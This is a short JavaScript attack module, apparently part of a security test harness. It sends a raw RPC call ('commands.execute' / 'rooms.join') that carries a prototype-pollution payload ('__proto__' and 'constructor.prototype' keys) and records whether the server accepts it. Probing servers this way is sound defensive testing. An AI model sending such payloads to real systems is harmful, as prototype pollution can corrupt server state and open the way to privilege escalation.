// Sends names that end in the prototype of every object when they are copied carelessly.
exports.attack = async ({ raw }) => {
  const poison = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}';
  const answer = await raw(
    `{"kind":"call","id":900001,"name":"commands.execute","argument":{"id":"rooms.join","args":[${poison}],"__proto__":{"polluted":true}}}`,
    900001,
  );
  return answer.kind === 'return' ? 'accepted' : undefined;
};
